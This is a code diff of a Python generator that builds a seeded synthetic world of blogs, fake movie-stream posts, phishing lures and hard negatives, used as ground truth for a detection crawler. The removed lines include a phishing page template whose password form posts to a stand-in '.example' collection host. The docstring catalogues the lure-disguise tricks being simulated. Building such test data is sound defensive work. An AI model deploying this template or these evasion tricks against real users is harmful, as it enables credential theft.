@@ -1,45 +1,163 @@
-"""Seeded generation of the replica's blogs, posts and landing pages (minimal version; being extended)."""
+"""Seeded generation of the replica's world: blogs, posts and landing pages with their ground truth.
+
+``build_dataset(seed, scale)`` is deterministic. At scale 1 it makes ~26 blogs (Tumblr, WordPress.com,
+self-hosted/Atomic WordPress, Blogger; criminals' and fans') and ~300 posts in 10 languages:
+
+- **fake streams** of watched titles (``watchlists/titles.yaml``) under disguised titles (homoglyphs,
+  zero-width characters, leetspeak, release names, entities, reordering, numbers as words/roman numerals,
+  translations), linking to lure players directly or through Tumblr's ``t.umblr.com`` wrapper, shorteners,
+  meta-refresh chains, a JavaScript redirect, hostile pages or dead links;
+- **lure posts** (giveaways linking to look-alike logins and OAuth-consent phishing) and posts that embed the
+  sign-in trap themselves;
+- **hard negatives** (~45%): reviews, trailers, box office, legit streaming news, fan art, scam warnings quoting
+  lure phrases, legit links, the platforms' own "Sign in with Google" comment widgets, legit sign-in pages,
+  sequels/near-miss titles and fake streams of films nobody watches.
+
+Truth: ``fake_stream`` = pretends to stream a *watched* film; ``sso_lure`` = the post carries a trap or a link
+that a polite crawler (HTTP + meta-refresh redirects within 5 hops, robots.txt honoured, no JavaScript redirects)
+ends on a lure page; ``matched_title`` = the watchlist title string, set on hits only. Every hit carries plain
+tags or SEO keywords so that at least one search of ``watchlists/searches.yaml`` finds it on its platform.
+"""
 
 from __future__ import annotations
 
+import html
+import itertools
 import random
+from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
 
-from replica.dataset import Blog, Dataset, Landing, Post, Truth
+from pipelines.watchlists import SearchPlan, load_searches, load_titles
+from replica._content_blogs import BlogSpec, make_blogs
+from replica._content_landings import LandingBook
+from replica._content_pages import Film
+from replica._content_posts import CRIMINAL_KINDS, FAN_KINDS, Draft, Drafter, PostSlot
+from replica._content_text import slugify
+from replica.dataset import Blog, Dataset, Post, Truth
 
-__all__ = ["build_dataset"]
+__all__ = ["NEAR_MISSES", "UNWATCHED", "build_dataset"]
 
-LURE_HTML = """<html><head><title>{title} HD Player</title></head><body><div class="player">
-<h1>Watch {title} Full Movie HD</h1><p>Sign in to continue watching</p>
-<a class="btn-fb" href="https://{host}/auth/facebook">Continue with Facebook</a>
-<form action="https://collect.{host}/gate.php" method="post"><input name="email" type="email">
-<input name="pass" type="password"><button>Sign in with Google</button></form></div></body></html>"""
+UNWATCHED: tuple[Film, ...] = tuple(Film(t, y, watched=False) for t, y in (
+    ("Oppenheimer", 2023), ("Barbie", 2023), ("Wicked: For Good", 2025), ("Zootopia 2", 2025),
+    ("Avatar: Fire and Ash", 2025), ("The Batman Part II", 2027), ("Shrek 5", 2027), ("Inside Out 2", 2024),
+    ("Deadpool & Wolverine", 2024), ("Frozen III", 2027),
+))
+
+#: (near-miss film, the watched title it is easily mistaken for)
+NEAR_MISSES: tuple[tuple[Film, str], ...] = tuple((Film(t, y, watched=False), w) for t, y, w in (
+    ("Iron Man 2", 2010, "Iron Man 3"), ("Toy Story 4", 2019, "Toy Story 5"), ("Man of Steel 2", 2027, "Man of Steel"),
+    ("Fast Five", 2011, "Fast & Furious 6"), ("Dune: Part Two", 2024, "Dune: Part Three"), ("Scream VI", 2023, "Scream 7"),
+    ("Moana 2", 2024, "Moana"), ("Mortal Kombat", 2021, "Mortal Kombat II"),
+    ("The Devil Wears Prada", 2006, "The Devil Wears Prada 2"), ("Avengers: Endgame", 2019, "Avengers: Doomsday"),
+    ("Spider-Man: No Way Home", 2021, "Spider-Man: Brand New Day"), ("Minions: The Rise of Gru", 2022, "Minions 3"),
+    ("The Super Mario Bros. Movie", 2023, "The Super Mario Galaxy Movie"),
+))
+
+_YEAR_START = datetime(2026, 1, 1, tzinfo=UTC)
+_YEAR_SPAN = int((datetime(2026, 11, 27, tzinfo=UTC) - _YEAR_START).total_seconds())
+_TUMBLR_ID_BASE = 780_000_000_000_000_000  # 2026-era Tumblr ids: far above 2**53
+_POSTS_PER_BLOG = {"criminal": 12, "fan": 11}
+_FORMATS = {"tumblr": ("legacy", "npf"), "wordpress": ("classic", "block"), "blogger": ("html",)}
+
+
+class _World:
+    """Generation state: the random source, the film rotations and the landing book."""
+
+    def __init__(self, seed: int, plan: SearchPlan, watched: list[Film]) -> None:
+        self.rng = random.Random(seed)
+        self.book = LandingBook()
+        self.drafter = Drafter(self.book, plan, self.rng)
+        self.watched = {f.title: f for f in watched}
+        self._films = itertools.cycle(watched)
+        self._unwatched = itertools.cycle(UNWATCHED)
+        self._near = itertools.cycle(NEAR_MISSES)
+        self._used_ids: set[str] = set()
+
+    def next_watched(self) -> Film:
+        return next(self._films)
+
+    def draft(self, kind: str, slot: PostSlot) -> Draft:
+        d = self.drafter
+        if kind == "unwatched":
+            return d.draft_unwatched(next(self._unwatched), slot)
+        if kind in ("near_miss_stream", "near_miss_review"):
+            film, related = next(self._near)
+            build = d.draft_near_miss_stream if kind == "near_miss_stream" else d.draft_near_miss_review
+            return build(film, slot, self.watched.get(related))
+        return getattr(d, f"draft_{kind}")(self.next_watched(), slot)
+
+    def unique_id(self, make: Callable[[], str]) -> str:
+        while (value := make()) in self._used_ids:
+            pass
+        self._used_ids.add(value)
+        return value
+
+
+def _post_ids(world: _World, blog: Blog, dates: list[datetime]) -> list[str]:
+    """Ids in the platform's style, increasing with time where the platform's are."""
+    rng = world.rng
+    if blog.platform == "tumblr":
+        base = int(_YEAR_START.timestamp())
+        return [world.unique_id(lambda d=d: str(_TUMBLR_ID_BASE + (int(d.timestamp()) - base) * 1_000_000
+                                                + rng.randrange(1_000_000))) for d in dates]
+    if blog.platform == "blogger":
+        return [world.unique_id(lambda: str(rng.randrange(10**18, 10**19))) for _ in dates]
+    start = rng.randrange(40, 400)
+    return [str(start + 3 * i + rng.randrange(3)) for i in range(len(dates))]
+
+
+def _slug(title: str, platform: str, taken: set[str]) -> str:
+    slug = slugify(html.unescape(title), 40 if platform == "blogger" else 80)
+    base, n = slug, 2
+    while slug in taken:
+        slug, n = (f"{base}_{n}" if platform == "blogger" else f"{base}-{n}"), n + 1
+    taken.add(slug)
+    return slug
+
+
+def _plain_title(draft: Draft) -> str:
+    """``Post.title`` is plain text; the ``html_entities`` disguise keeps its references (double-encoded spam)."""
+    if "disguise: html_entities" in draft.note:
+        return draft.title.replace("&amp;", "&")
+    return html.unescape(draft.title)
+
+
+def _truth(draft: Draft, book: LandingBook) -> Truth:
+    film = draft.film
+    fake = draft.fake_stream and film.watched
+    lure = draft.embedded_lure or any(book.leads_to_lure(u) for u in draft.outbound)
+    matched = film.title if (fake or lure) and film.watched else None
+    return Truth(fake_stream=fake, sso_lure=lure, matched_title=matched, note=f"{draft.kind}: {draft.note}")
+
+
+def _blog_posts(world: _World, blog: Blog, spec: BlogSpec) -> list[Post]:
+    count = _POSTS_PER_BLOG[spec.persona]
+    kinds = CRIMINAL_KINDS if spec.persona == "criminal" else FAN_KINDS
+    dates = sorted(_YEAR_START + timedelta(seconds=world.rng.randrange(_YEAR_SPAN)) for _ in range(count))
+    ids = _post_ids(world, blog, dates)
+    formats = _FORMATS[blog.platform]
+    posts, slugs = [], set[str]()
+    for i, (published, post_id) in enumerate(zip(dates, ids, strict=True)):
+        slot = PostSlot(blog, post_id, spec.languages[i % len(spec.languages)])
+        draft = world.draft(kinds[(i + len(blog.name)) % len(kinds)], slot)
+        title = _plain_title(draft)
+        posts.append(Post(
+            blog, post_id, _slug(title, blog.platform, slugs), title, draft.body, published,
+            tags=list(dict.fromkeys(draft.tags)), language=draft.language, truth=_truth(draft, world.book),
+            outbound=list(dict.fromkeys(draft.outbound)), post_format=formats[i % len(formats)],
+        ))
+    return posts
 
 
 def build_dataset(seed: int = 2026, scale: int = 1) -> Dataset:
-    rng = random.Random(seed)
-    base = datetime(2026, 11, 1, tzinfo=UTC)
-    blogs = [
-        Blog("tumblr", "moviezone-hd", "moviezone-hd.tumblr.com", "Moviezone HD", blog_id="t:mzhd"),
-        Blog("wordpress", "streamfilms2026", "streamfilms2026.wordpress.com", "Stream Films", blog_id="201001", kind="wpcom"),
-        Blog("blogger", "filmes-online-gratis", "filmes-online-gratis.blogspot.com", "Filmes Online", blog_id="7001002003004005006"),
-    ]
-    posts: list[Post] = []
-    landings: dict[str, Landing] = {}
-    for i, blog in enumerate(blogs):
-        lure_url = f"https://hdplayer-{i}.stream-now.example/watch/man-of-steel"
-        landings[lure_url] = Landing(lure_url, LURE_HTML.format(title="Man of Steel", host=f"hdplayer-{i}.stream-now.example"),
-                                     kind="lure", truth=Truth(fake_stream=True, sso_lure=True, matched_title="Man of Steel"))
-        posts.append(Post(
-            blog, str(700000000000000000 + rng.randrange(10**15)), "watch-man-of-steel-2013-full-movie-online-free",
-            "Watch Man of Steel (2013) Full Movie Online Free HD",
-            f'<p>Watch Man of Steel 2013 full movie online free in HD.</p><p><a href="{lure_url}">&#9654; WATCH NOW</a></p>',
-            base - timedelta(hours=i), tags=["man of steel full movie", "man of steel"],
-            truth=Truth(fake_stream=True, sso_lure=True, matched_title="Man of Steel", note="plain English fake stream"),
-            outbound=[lure_url]))
-        posts.append(Post(
-            blog, str(700000000000000000 + rng.randrange(10**15)), "man-of-steel-review",
-            "Man of Steel review: a full movie's worth of ideas",
-            "<p>I watched Man of Steel at the cinema. Full movie review: Cavill is great.</p>",
-            base - timedelta(hours=10 + i), tags=["man of steel", "review"], truth=Truth(note="real review")))
-    return Dataset(blogs, posts, landings)
+    """The replica's world for ``seed``; ``scale`` multiplies blogs and posts (scale 20 ~ 6,000 posts)."""
+    if scale < 1:
+        raise ValueError(f"scale must be >= 1, not {scale}")
+    titles = load_titles()
+    watched = [Film(t.title, t.year, t.aliases) for t in titles]
+    world = _World(seed, load_searches(), watched)
+    blogs, posts = [], []
+    for blog, spec in make_blogs(world.rng, scale):
+        blogs.append(blog)
+        posts.extend(_blog_posts(world, blog, spec))
+    return Dataset(blogs, posts, world.book.landings, robots=dict(world.book.robots))
